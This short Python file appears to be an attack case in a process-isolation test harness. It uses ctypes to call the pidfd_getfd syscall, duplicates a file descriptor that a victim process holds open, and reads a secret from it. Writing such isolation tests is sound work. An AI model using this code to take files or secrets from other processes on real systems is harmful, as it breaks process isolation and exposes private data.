"""Takes a file that another process holds open."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


PIDFD_GETFD = 438  # on every architecture


def attack(world):
    try:
        process = os.pidfd_open(world["victim_pid"])
    except PermissionError:
        process = -1  # asks for the second call all the same
    stolen = checked(LIBC.syscall(PIDFD_GETFD, process, world["victim_descriptor"], 0))
    return os.pread(stolen, world["secret_length"], 0)
